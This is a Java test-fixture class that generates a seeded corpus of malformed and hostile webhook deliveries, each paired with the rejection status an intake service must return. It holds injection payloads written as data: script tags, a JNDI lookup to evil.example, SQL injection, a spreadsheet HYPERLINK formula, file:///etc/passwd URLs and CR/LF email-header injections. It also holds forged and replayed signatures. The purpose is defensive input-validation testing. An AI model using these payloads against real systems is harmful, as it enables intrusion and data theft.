package dev.politely.intake;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;

import dev.politely.intake.Fixtures.Signed;

/**
 * A deterministic corpus of hostile webhook deliveries (seeded), every one of which the
 * contract refuses: truncated bodies, deep nesting, odd numbers, wrong types, invalid
 * UTF-8, control characters, oversized fields, hostile HTML and header injection,
 * replayed signatures, skewed timestamps, wrong content types. Each delivery says what
 * the contract answers it: 415, then 413, then 401, then 400, the first check that fails.
 */
public final class HostileCorpus {

	public static final String OWNER = "alice";

	private static final int MAX_BODY = 64 * 1024;

	private static final String[] EXAMPLES = { "advice-within-budget.json", "connection-coherent.json",
			"connection-ghost.json", "private-platform.json", "recommendation-barely-known.json" };

	private final Random random;

	private final Instant now;

	private final List<Delivery> deliveries = new ArrayList<>();

	private int sequence;

	private HostileCorpus(long seed, Instant now) {
		this.random = new Random(seed);
		this.now = now;
	}

	/**
	 * One hostile delivery: where it goes, its headers and body, and the status the
	 * contract gives it.
	 *
	 * @param skew for a skewed timestamp, how far from the time of sending it is signed;
	 * else null
	 */
	public record Delivery(String category, String ownerId, String contentType, String webhookId, String timestamp,
			String signature, byte[] body, int expected, Long skew) {

		/**
		 * As sent now: a skewed timestamp is signed again right before sending, so that
		 * the skew is exact.
		 */
		public Delivery at(Instant sendingAt) {
			if (this.skew == null) {
				return this;
			}
			Signed signed = Signed.at(Fixtures.ALICE_SECRET, this.webhookId, sendingAt.plusSeconds(this.skew),
					this.body);
			return new Delivery(this.category, this.ownerId, this.contentType, this.webhookId, signed.timestamp(),
					signed.signature(), this.body, this.expected, this.skew);
		}

	}

	public static List<Delivery> generate(long seed, Instant now) {
		HostileCorpus corpus = new HostileCorpus(seed, now);
		corpus.truncated();
		corpus.deeplyNested();
		corpus.oddNumbers();
		corpus.wrongTypes();
		corpus.invalidUtf8();
		corpus.controlCharacters();
		corpus.oversized();
		corpus.hostileText();
		corpus.notAnObject();
		corpus.replayedSignatures();
		corpus.skewedTimestamps();
		corpus.wrongContentTypes();
		corpus.unknownOwners();
		corpus.garbage();
		return List.copyOf(corpus.deliveries);
	}

	/** Every example cut at every length: never a whole JSON document. */
	private void truncated() {
		for (String example : EXAMPLES) {
			byte[] whole = trimmed(Fixtures.example(example));
			for (int length = 0; length < whole.length; length++) {
				signed("truncated", Arrays.copyOf(whole, length), 400);
			}
		}
	}

	private void deeplyNested() {
		// from just over the parser's limit (32) to 30 000 deep, all under 64 KiB
		for (int depth : new int[] { 33, 100, 1_000, 10_000, 30_000 }) {
			signed("nested", utf8("[".repeat(depth) + "]".repeat(depth)), 400);
			int objects = Math.min(depth, 10_000);
			signed("nested", utf8("{\"a\":".repeat(objects) + "1" + "}".repeat(objects)), 400);
			signed("nested", utf8(valid().with("extra", "[".repeat(depth) + "]".repeat(depth)).json()), 400);
			signed("nested", utf8("[".repeat(depth)), 400);
		}
		signed("nested", utf8("[".repeat(40_000) + "]".repeat(40_000)), 413);
	}

	private void oddNumbers() {
		String[] numbers = { "1e400", "-1e400", "1180591620717411303424", "-1180591620717411303424", "-0", "0", "601",
				"1.5", "1e-400", "0.0000001", "1" + "0".repeat(99), "1" + "0".repeat(200), "NaN", "-NaN", "Infinity",
				"-Infinity", "\"NaN\"", "\"30\"", "0x1E", "01", "+5", ".5", "5.", "1e", "--1" };
		for (String number : numbers) {
			signed("numbers", utf8(valid().with("estimatedMinutes", number).json()), 400);
		}
		for (String number : new String[] { "1e400", "1180591620717411303424", "-1", "100001", "1.5", "NaN", "\"14\"",
				"1" + "0".repeat(200) }) {
			signed("numbers", utf8(valid().withRequester("mutualConnections", number).json()), 400);
		}
	}

	/** Each field given values of the types it does not take. */
	private void wrongTypes() {
		String[] notText = { "null", "true", "0", "1.5", "[]", "{}", "[\"x\"]", "{\"a\":\"b\"}" };
		for (String field : new String[] { "kind", "platform", "receivedAt", "message" }) {
			for (String value : notText) {
				signed("types", utf8(valid().with(field, value).json()), 400);
			}
		}
		for (String field : new String[] { "name", "email", "profileUrl", "headline", "language" }) {
			for (String value : notText) {
				signed("types", utf8(valid().withRequester(field, value).json()), 400);
			}
		}
		for (String value : new String[] { "null", "true", "\"3\"", "[]", "{}" }) {
			signed("types", utf8(valid().with("estimatedMinutes", value).json()), 400);
			signed("types", utf8(valid().withRequester("mutualConnections", value).json()), 400);
		}
		for (String value : new String[] { "null", "true", "0", "\"Ada\"", "[]", "{}", "[{\"name\":\"Ada\"}]" }) {
			signed("types", utf8(valid().with("requester", value).json()), 400);
		}
		for (String value : new String[] { "null", "true", "0", "\"https://example.org\"", "[]" }) {
			signed("types", utf8(valid().with("reply", value).json()), 400);
		}
		for (String value : new String[] { "null", "0", "true", "[]", "\"javascript:alert(1)\"",
				"\"file:///etc/passwd\"", "\"ftp://example.org\"", "\"//example.org\"" }) {
			signed("types", utf8(valid().with("reply", "{\"callbackUrl\":" + value + "}").json()), 400);
			signed("types", utf8(valid().withRequester("profileUrl", value).json()), 400);
		}
		for (String value : new String[] { "\"connection_request\"", "\"GOSSIP\"", "\"\"", "\"QUESTION \"" }) {
			signed("types", utf8(valid().with("kind", value).json()), 400);
		}
		for (String value : new String[] { "\"\"", "\" linkedin\"", "\"a\\/b\"", "\"linked:in\"" }) {
			signed("types", utf8(valid().with("platform", value).json()), 400);
		}
		for (String value : new String[] { "\"yesterday\"", "\"2026-13-01T00:00:00Z\"", "\"2026-11-23 09:12:00\"",
				"\"2026-11-23\"", "\"2026-02-30T10:00:00Z\"" }) {
			signed("types", utf8(valid().with("receivedAt", value).json()), 400);
		}
		for (String value : new String[] { "\"not-an-email\"", "\"a@b@c\"", "\"@example.org\"", "\"\"" }) {
			signed("types", utf8(valid().withRequester("email", value).json()), 400);
		}
		for (String value : new String[] { "\"english\"", "\"EN\"", "\"f\"" }) {
			signed("types", utf8(valid().withRequester("language", value).json()), 400);
		}
		for (String required : new String[] { "kind", "platform", "requester" }) {
			signed("types", utf8(valid().without(required).json()), 400);
		}
		signed("types", utf8(valid().withRequester("name", null).json()), 400);
	}

	/**
	 * Bytes that are not UTF-8, spliced into the message: overlong forms, surrogates,
	 * truncated sequences.
	 */
	private void invalidUtf8() {
		byte[][] sequences = { { (byte) 0xFF }, { (byte) 0xFE }, { (byte) 0xC0, (byte) 0xAF },
				{ (byte) 0xC1, (byte) 0xBF }, { (byte) 0xE0, (byte) 0x80, (byte) 0xAF },
				{ (byte) 0xF0, (byte) 0x80, (byte) 0x80, (byte) 0xAF }, { (byte) 0xED, (byte) 0xA0, (byte) 0x80 },
				{ (byte) 0xED, (byte) 0xBF, (byte) 0xBF },
				{ (byte) 0xED, (byte) 0xA0, (byte) 0xBD, (byte) 0xED, (byte) 0xB8, (byte) 0x80 },
				{ (byte) 0xE2, (byte) 0x82 }, { (byte) 0x80 },
				{ (byte) 0xF8, (byte) 0x88, (byte) 0x80, (byte) 0x80, (byte) 0x80 },
				{ (byte) 0xF4, (byte) 0x90, (byte) 0x80, (byte) 0x80 }, { (byte) 0xC3 } };
		for (byte[] sequence : sequences) {
			for (String field : new String[] { "message", "platform", "kind" }) {
				String marker = "@@INVALID@@";
				signed("utf8", splice(utf8(valid().with(field, "\"a" + marker + "b\"").json()), marker, sequence), 400);
			}
			String marker = "@@INVALID@@";
			signed("utf8", splice(utf8(valid().withRequester("name", "\"" + marker + "\"").json()), marker, sequence),
					400);
			// in a key
			signed("utf8", splice(utf8("{\"" + marker + "\":1," + valid().json().substring(1)), marker, sequence), 400);
		}
		// a byte order mark is not JSON
		signed("utf8", concat(new byte[] { (byte) 0xEF, (byte) 0xBB, (byte) 0xBF }, utf8(valid().json())), 400);
		// UTF-16
		signed("utf8", valid().json().getBytes(StandardCharsets.UTF_16), 400);
	}

	/** NUL anywhere, CR and LF in the requester's name and email, escaped and raw. */
	private void controlCharacters() {
		for (String nul : new String[] { "\\u0000", "\u0000" }) {
			for (String field : new String[] { "message", "platform" }) {
				signed("control", utf8(valid().with(field, "\"linkedin" + nul + "\"").json()), 400);
			}
			for (String field : new String[] { "name", "email", "headline", "profileUrl" }) {
				signed("control", utf8(valid().withRequester(field, "\"x" + nul + "@example.org\"").json()), 400);
			}
			signed("control", utf8(valid().with("key" + nul, "1").json()), 400);
			signed("control", utf8(valid().with("extra", "[\"" + nul + "\"]").json()), 400);
		}
		for (String breakChars : new String[] { "\\r", "\\n", "\\r\\n", "\r", "\n", "\r\n", "\\u000d", "\\u000A" }) {
			signed("control",
					utf8(valid().withRequester("name", "\"Eve" + breakChars + "Bcc: x@evil.example\"").json()), 400);
			signed("control", utf8(
					valid().withRequester("email", "\"eve@example.org" + breakChars + "Bcc: x@evil.example\"").json()),
					400);
		}
		for (char control : new char[] { 0x01, 0x07, 0x08, 0x0B, 0x1B, 0x1F }) {
			// raw control characters are not allowed inside JSON strings
			signed("control", utf8(valid().with("message", "\"a" + control + "b\"").json()), 400);
		}
	}

	/** Every bounded field one over its bound, and bodies over 64 KiB. */
	private void oversized() {
		Map<String, Integer> requester = new LinkedHashMap<>();
		requester.put("name", 201);
		requester.put("headline", 301);
		requester.forEach((field, length) -> {
			signed("oversized", utf8(valid().withRequester(field, quoted("x".repeat(length))).json()), 400);
			signed("oversized", utf8(valid().withRequester(field, quoted("é".repeat(length))).json()), 400);
		});
		signed("oversized", utf8(valid().withRequester("email", quoted("a".repeat(243) + "@example.org")).json()), 400);
		signed("oversized",
				utf8(valid().withRequester("profileUrl", quoted("https://example.org/" + "p".repeat(2030))).json()),
				400);
		signed("oversized",
				utf8(valid()
					.with("reply", "{\"callbackUrl\":" + quoted("https://example.org/" + "p".repeat(2030)) + "}")
					.json()),
				400);
		signed("oversized", utf8(valid().with("message", quoted("m".repeat(5001))).json()), 400);
		signed("oversized", utf8(valid().with("message", quoted("€".repeat(5001))).json()), 400);
		signed("oversized", utf8(valid().with("platform", quoted("p".repeat(41))).json()), 400);
		signed("oversized", utf8(valid().with("message", quoted("m".repeat(MAX_BODY))).json()), 413);
		signed("oversized", utf8(valid().with("extra", quoted("e".repeat(MAX_BODY - 200))).json()), 413);
		signed("oversized", utf8(valid().with("k".repeat(2000), "1").json()), 400);
		signed("oversized", utf8(" ".repeat(MAX_BODY + 1)), 413);
	}

	/**
	 * Script and header-injection payloads, where the contract refuses them: with CR or
	 * LF in name or email.
	 */
	private void hostileText() {
		String[] payloads = { "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>",
				"</title><script>document.location='https://evil.example'</script>", "${jndi:ldap://evil.example/a}",
				"{{7*7}}", "<!--", "'; DROP TABLE solicitations; --", "javascript:alert(1)", "\u202Eevil",
				"=HYPERLINK(\"https://evil.example\")" };
		String[] injections = { "\\r\\nBcc: victim@example.org", "\\nSubject: you won", "\\r\\n\\r\\n<html>",
				"\\r\\nContent-Type: text/html", "\\nX-Politely-Outcome: ACCEPT" };
		for (String payload : payloads) {
			for (String injection : injections) {
				String text = payload.replace("\\", "\\\\").replace("\"", "\\\"") + injection;
				signed("hostile", utf8(valid().withRequester("name", quoted(text)).json()), 400);
				signed("hostile", utf8(valid().withRequester("email", quoted("eve@example.org" + injection)).json()),
						400);
			}
		}
	}

	private void notAnObject() {
		for (String body : new String[] { "", " ", "null", "true", "0", "\"QUESTION\"", "[]", "[{}]",
				"[" + valid().json() + "]", valid().json() + valid().json(), valid().json() + " x", "{}", "{,}",
				"{\"kind\":\"QUESTION\",}", "{'kind':'QUESTION'}", "{kind:\"QUESTION\"}", "/* */" + valid().json(),
				valid().json().replace("\"kind\":", "\"kind\":\"QUESTION\",\"kind\":") }) {
			signed("shape", utf8(body), 400);
		}
	}

	/**
	 * A valid signature kept while the body, the timestamp or the id changed: not the
	 * owner's delivery.
	 */
	private void replayedSignatures() {
		for (String example : EXAMPLES) {
			byte[] body = Fixtures.example(example);
			Signed signed = Signed.at(Fixtures.ALICE_SECRET, nextId(), this.now, body);
			for (int i = 0; i < 80; i++) {
				byte[] changed = body.clone();
				int at = this.random.nextInt(changed.length);
				changed[at] = (byte) (changed[at] ^ (1 + this.random.nextInt(255)));
				add("replay", "application/json", signed.webhookId(), signed.timestamp(), signed.signature(), changed,
						401);
			}
			add("replay", "application/json", signed.webhookId(), signed.timestamp(), signed.signature(),
					concat(body, utf8(" ")), 401);
			add("replay", "application/json", signed.webhookId(),
					Long.toString(this.now.getEpochSecond() + 1 + this.random.nextInt(60)), signed.signature(), body,
					401);
			add("replay", "application/json", nextId(), signed.timestamp(), signed.signature(), body, 401);
			add("replay", "application/json", signed.webhookId(), signed.timestamp(),
					signed.signature().replace("v1,", "v2,"), body, 401);
			add("replay", "application/json", signed.webhookId(), signed.timestamp(),
					signed.signature().substring(0, signed.signature().length() - 4), body, 401);
			add("replay", "application/json", signed.webhookId(), signed.timestamp(), "", body, 401);
			add("replay", "application/json", signed.webhookId(), signed.timestamp(), "v1,", body, 401);
			add("replay", "application/json", signed.webhookId(), signed.timestamp(), "v1," + "A".repeat(4_000), body,
					401);
		}
	}

	private void skewedTimestamps() {
		byte[] body = Fixtures.example("connection-ghost.json");
		long[] skews = { 301, -301, 302, -302, 600, -600, 3_600, -86_400, 10_000_000, -1_700_000_000 };
		for (long skew : skews) {
			skewed(body, skew);
		}
		for (int i = 0; i < 150; i++) {
			long magnitude = 301 + this.random.nextInt(1_000_000);
			skewed(body, this.random.nextBoolean() ? magnitude : -magnitude);
		}
		for (String timestamp : new String[] { "", "abc", "-5", "1.7e9", "0x10", "99999999999999999999",
				this.now.getEpochSecond() + "000", this.now.getEpochSecond() + ".0" }) {
			String id = nextId();
			add("skew", "application/json", id, timestamp,
					Signed.at(Fixtures.ALICE_SECRET, id, this.now, body).signature(), body, 401);
		}
		// a signature made with another secret, or none
		Signed other = Signed.at("whsec_QUJDREVGR0hJSktMTU5PUFFSU1RVVldY", nextId(), this.now, body);
		add("skew", "application/json", other.webhookId(), other.timestamp(), other.signature(), body, 401);
		add("skew", "application/json", null, null, null, body, 401);
	}

	private void wrongContentTypes() {
		byte[] body = Fixtures.example("connection-ghost.json");
		for (String type : new String[] { null, "text/plain", "text/html", "application/xml",
				"application/x-www-form-urlencoded", "multipart/form-data; boundary=x",
				"application/json; charset=latin1", "application/json; charset=utf-16", "application/jsonx", "json",
				"application/json; charset=nope", "*/*" }) {
			Signed signed = Signed.at(Fixtures.ALICE_SECRET, nextId(), this.now, body);
			add("content-type", type, signed.webhookId(), signed.timestamp(), signed.signature(), body, 415);
		}
	}

	private void unknownOwners() {
		byte[] body = Fixtures.example("connection-ghost.json");
		for (String owner : new String[] { "mallory", "bob", "ALICE", "alice.", "a", "x".repeat(64), "alice-", "_alice",
				"alice%20", "%C3%A9" }) {
			Signed signed = Signed.at(Fixtures.ALICE_SECRET, nextId(), this.now, body);
			this.deliveries.add(new Delivery("owner", owner, "application/json", signed.webhookId(), signed.timestamp(),
					signed.signature(), body, 401, null));
		}
	}

	/** Random bytes and random printable text, signed: never a JSON object. */
	private void garbage() {
		for (int i = 0; i < 200; i++) {
			byte[] bytes = new byte[1 + this.random.nextInt(2000)];
			this.random.nextBytes(bytes);
			bytes[0] = (byte) ('A' + this.random.nextInt(26));
			signed("garbage", bytes, 400);
		}
		for (int i = 0; i < 100; i++) {
			StringBuilder text = new StringBuilder("]");
			for (int j = this.random.nextInt(500); j > 0; j--) {
				text.append((char) (0x20 + this.random.nextInt(0x5F)));
			}
			signed("garbage", utf8(text.toString()), 400);
		}
	}

	private void signed(String category, byte[] body, int expected) {
		Signed signed = Signed.at(Fixtures.ALICE_SECRET, nextId(), this.now, body);
		add(category, "application/json", signed.webhookId(), signed.timestamp(), signed.signature(), body, expected);
	}

	private void skewed(byte[] body, long skew) {
		Signed signed = Signed.at(Fixtures.ALICE_SECRET, nextId(), this.now.plusSeconds(skew), body);
		this.deliveries.add(new Delivery("skew", OWNER, "application/json", signed.webhookId(), signed.timestamp(),
				signed.signature(), body, 401, skew));
	}

	private void add(String category, String contentType, String webhookId, String timestamp, String signature,
			byte[] body, int expected) {
		// the size is checked before the signature and the body
		int status = (expected != 415 && body.length > MAX_BODY) ? 413 : expected;
		this.deliveries
			.add(new Delivery(category, OWNER, contentType, webhookId, timestamp, signature, body, status, null));
	}

	private String nextId() {
		return "msg_hostile_" + (++this.sequence);
	}

	private static Body valid() {
		return new Body();
	}

	/**
	 * A valid solicitation, as raw JSON values, to make exactly one thing wrong in it.
	 */
	private static final class Body {

		private final Map<String, String> fields = new LinkedHashMap<>();

		private final Map<String, String> requester = new LinkedHashMap<>();

		Body() {
			this.fields.put("kind", "\"CONNECTION_REQUEST\"");
			this.fields.put("platform", "\"linkedin\"");
			this.fields.put("receivedAt", "\"2026-11-23T09:12:00Z\"");
			this.requester.put("name", "\"Julien Moreau\"");
			this.requester.put("email", "\"julien.moreau@example.org\"");
			this.requester.put("profileUrl", "\"https://www.linkedin.com/in/julien-moreau-example\"");
			this.requester.put("headline", "\"Responsable formation\"");
			this.requester.put("language", "\"fr\"");
			this.requester.put("mutualConnections", "14");
			this.fields.put("requester", null);
			this.fields.put("message", "\"Bonjour Alice\"");
			this.fields.put("estimatedMinutes", "30");
		}

		Body with(String field, String rawJson) {
			this.fields.put(field, rawJson);
			return this;
		}

		Body without(String field) {
			this.fields.remove(field);
			return this;
		}

		/** A null value drops the field. */
		Body withRequester(String field, String rawJson) {
			if (rawJson == null) {
				this.requester.remove(field);
			}
			else {
				this.requester.put(field, rawJson);
			}
			return this;
		}

		String json() {
			StringBuilder json = new StringBuilder("{");
			this.fields.forEach((name, value) -> {
				if (json.length() > 1) {
					json.append(',');
				}
				json.append('"').append(name).append("\":").append((value != null) ? value : object(this.requester));
			});
			return json.append('}').toString();
		}

		private static String object(Map<String, String> fields) {
			StringBuilder json = new StringBuilder("{");
			fields.forEach((name, value) -> {
				if (json.length() > 1) {
					json.append(',');
				}
				json.append('"').append(name).append("\":").append(value);
			});
			return json.append('}').toString();
		}

	}

	private static String quoted(String text) {
		return "\"" + text + "\"";
	}

	private static byte[] trimmed(byte[] json) {
		int end = json.length;
		while (end > 0 && Character.isWhitespace(json[end - 1])) {
			end--;
		}
		return Arrays.copyOf(json, end);
	}

	private static byte[] splice(byte[] body, String marker, byte[] inserted) {
		String text = new String(body, StandardCharsets.UTF_8);
		int at = text.indexOf(marker);
		byte[] before = utf8(text.substring(0, at));
		byte[] after = utf8(text.substring(at + marker.length()));
		return concat(concat(before, inserted), after);
	}

	private static byte[] concat(byte[] first, byte[] second) {
		ByteArrayOutputStream out = new ByteArrayOutputStream(first.length + second.length);
		out.writeBytes(first);
		out.writeBytes(second);
		return out.toByteArray();
	}

	private static byte[] utf8(String text) {
		return text.getBytes(StandardCharsets.UTF_8);
	}

}
